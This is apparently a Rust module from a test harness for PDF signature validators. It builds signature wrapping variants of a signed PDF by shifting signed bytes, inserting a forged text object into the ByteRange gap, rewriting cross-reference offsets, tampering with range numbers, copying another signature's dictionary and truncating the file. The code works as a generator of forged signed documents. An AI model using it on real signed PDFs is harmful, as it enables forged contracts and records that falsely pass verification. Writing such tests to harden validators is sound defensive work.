//! Signature wrapping: the signed bytes are moved, and something is put into the hole.

use super::{Attack, Victim, field_of};
use crate::build::{Xref, object, startxref, stream};

struct Range {
    /// Where the three numbers stand in the file.
    at: std::ops::Range<usize>,
    gap: usize,
    resume: usize,
    rest: usize,
}

fn range(bytes: &[u8]) -> Range {
    let mark = b"/ByteRange[0 ";
    let start = bytes.windows(mark.len()).rposition(|w| w == mark).unwrap() + mark.len();
    let length = bytes[start..].iter().position(|b| *b == b']').unwrap();
    let text = String::from_utf8_lossy(&bytes[start..start + length]).into_owned();
    let numbers: Vec<usize> = text.split_whitespace().map(|n| n.parse().unwrap()).collect();
    Range {
        at: start..start + length,
        gap: numbers[0],
        resume: numbers[1],
        rest: numbers[2],
    }
}

fn with_range(mut bytes: Vec<u8>, at: &std::ops::Range<usize>, numbers: [usize; 3]) -> Vec<u8> {
    let text = format!("{} {} {}", numbers[0], numbers[1], numbers[2]);
    bytes[at.clone()].fill(b' ');
    bytes[at.start..at.start + text.len()].copy_from_slice(text.as_bytes());
    bytes
}

/// The classic: the hole holds other cross-references, exactly where the signed end of the file points.
fn relocated(signed: &[u8], at: &std::ops::Range<usize>, [gap, resume, rest]: [usize; 3]) -> Vec<u8> {
    let place = startxref(signed);
    let table = String::from_utf8(signed[place..].to_vec()).unwrap();
    let mut hole = Vec::from(b">>\nendobj\n");
    let evil = resume + hole.len();
    object(&mut hole, 5, &stream("", b"BT (Otro) Tj ET"));
    assert!(
        resume + hole.len() <= place,
        "the objects behind the contents leave room"
    );
    hole.resize(place - resume, b' ');
    let shift = hole.len() + table.len() + 40;
    let mut moved = String::new();
    for line in table.split_inclusive("\r\n") {
        let split = line.len().saturating_sub(20);
        let (head, entry) = line.split_at(split);
        moved += head;
        match entry.get(..10).and_then(|digits| digits.parse::<usize>().ok()) {
            Some(offset) if offset > resume => moved += &format!("{:010}{}", offset + shift, &entry[10..]),
            _ => moved += entry,
        }
    }
    let moved = moved.replacen("xref\n", &format!("xref\n5 1\n{evil:010} 00000 n\r\n"), 1);
    hole.extend_from_slice(moved.as_bytes());
    hole.resize(shift, b' ');
    let bytes = [&signed[..resume], &hole, &signed[resume..]].concat();
    with_range(bytes, at, [gap, resume + shift, rest])
}

pub(crate) fn all(victim: &Victim) -> Vec<Attack> {
    let signed = &victim.bytes;
    let Range {
        at,
        gap,
        resume,
        rest,
    } = range(signed);
    let evil = {
        let mut out = Vec::from(b"\n");
        object(&mut out, 5, &stream("", b"BT (Otro) Tj ET"));
        out
    };
    let mut attacks = Vec::new();
    // The second part of the signed bytes moves behind something new.
    let moved = [&signed[..resume], &evil, &signed[resume..]].concat();
    attacks.push(victim.attack(
        "hole behind the contents",
        with_range(moved, &at, [gap, resume + evil.len(), rest]),
    ));
    if victim.dialect == Xref::Table {
        attacks.push(victim.attack(
            "hole with its own cross-references",
            relocated(signed, &at, [gap, resume, rest]),
        ));
    }
    let padded = [&signed[..resume - 1], &[b'0'; 64], &signed[resume - 1..]].concat();
    attacks.push(victim.attack("longer contents, same range", padded.clone()));
    attacks.push(victim.attack(
        "spaces in the contents",
        [&signed[..resume - 1], &[b' '; 64], &signed[resume - 1..]].concat(),
    ));
    attacks.push(victim.attack(
        "range one short",
        with_range(signed.clone(), &at, [gap, resume, rest - 1]),
    ));
    attacks.push(victim.attack(
        "range one more",
        with_range(signed.clone(), &at, [gap - 1, resume, rest]),
    ));
    attacks.push(victim.attack(
        "gap wider",
        with_range(signed.clone(), &at, [gap, resume + 1, rest - 1]),
    ));
    // All is covered, but by the copy of another signature's dictionary.
    let twin = {
        let body = String::from_utf8_lossy(&signed[at.end - 400..resume]).into_owned();
        let start = body.rfind(" obj\n").unwrap() + 5;
        format!("{}>>", &body[start..])
    };
    let field = b"<</FT/Sig/T(Otra)/V 401 0 R/Type/Annot/Subtype/Widget/Rect[0 0 0 0]/P 4 0 R>>".to_vec();
    let form = format!(
        "<</Type/Catalog/Pages 2 0 R/AcroForm<</SigFlags 3/Fields[8 0 R {} 0 R 400 0 R]>>>>",
        field_of(signed)
    );
    attacks.push(victim.attack(
        "a second signature with the same range",
        victim.update(&[(401, twin.into_bytes()), (400, field), (1, form.into_bytes())]),
    ));
    let mut truncated = signed[..resume].to_vec();
    truncated.extend_from_slice(format!(">>\nendobj\nstartxref\n{}\n%%EOF\n", startxref(signed)).as_bytes());
    attacks.push(victim.attack("cut off", truncated));
    attacks
}
